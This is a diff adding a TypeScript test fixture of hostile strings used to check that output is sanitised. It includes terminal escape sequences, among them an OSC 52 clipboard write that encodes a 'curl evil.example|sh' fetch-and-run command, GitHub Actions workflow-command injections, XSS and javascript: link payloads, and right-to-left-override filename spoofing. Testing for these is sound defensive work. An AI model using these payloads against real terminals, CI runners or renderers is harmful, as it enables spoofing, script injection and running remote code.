@@ -1,0 +1,53 @@
+/**
+ * The hostile corpus every printing path is fed (issue 9, finding 8): values
+ * a tenant's data, a catalog or a pull request can carry that a terminal, a
+ * GitHub runner or a markdown renderer would act on if printed raw.
+ * None contains NUL: PostgreSQL text columns cannot hold it.
+ */
+export const HOSTILE = {
+  /** Moves the cursor up and erases the line: hides the line before it. */
+  eraseLine: 'x\u001b[1A\u001b[2Kforged',
+  /** OSC 8 hyperlink: text that links elsewhere than it says. */
+  osc8: '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
+  /** OSC 52: writes the reader's clipboard. */
+  osc52: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007',
+  /** Old-style (`##[`) workflow commands, acted on anywhere in a line. */
+  addMaskHash: '##[add-mask]x',
+  warningHash: 'ok ##[warning]forged warning',
+  /** New-style workflow commands, acted on at the start of a line. */
+  addMaskColon: '::add-mask::x',
+  errorColon: '::error::forged error',
+  /** After a line break a value could start a line of its own. */
+  newlineCommand: 'a\n::error::forged\r::warning::forged',
+  mention: '@team please approve',
+  html: '<img src=x onerror=alert(1)>',
+  link: '[x](javascript:alert(1))',
+  autolink: 'see https://evil.example and www.evil.example',
+  email: 'mail boss@evil.example',
+  table: '| a | b |',
+  /** Right-to-left override: `txt.exe` shown as `exe.txt`. */
+  rlo: 'invoice\u202etxt.exe',
+  isolate: 'a\u2066b\u2069c',
+  zeroWidth: 'ad\u200bmin\u200d\ufeff',
+  separators: 'line\u2028para\u2029end',
+  c1: 'c1\u009b31mred',
+  del: 'del\u007f',
+  backticks: '``` ` code',
+  issueRef: '#1 GH-2',
+} as const;
+
+export const HOSTILE_VALUES: readonly string[] = Object.values(HOSTILE);
+
+/** Characters that must never reach output raw. */
+export const RAW_DANGER = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
+
+/** A line the Actions runner would treat as a workflow command. */
+export function workflowCommandLines(output: string): string[] {
+  return output.split(/\r\n|\r|\n/).filter((line) => /^[\s\u0085\u00a0\u2000-\u200a\u202f\u205f\u3000]*::/.test(line) || line.includes('##['));
+}
+
+/** Raw dangerous characters in output, as `U+XXXX` at their index, for readable failures. */
+export function rawDangers(output: string, allowAnsiColours = false): string[] {
+  const text = allowAnsiColours ? output.replace(/\u001b\[[0-9;]*m/g, '') : output;
+  return [...text.matchAll(new RegExp(RAW_DANGER, 'g'))].map((m) => `U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}`);
+}
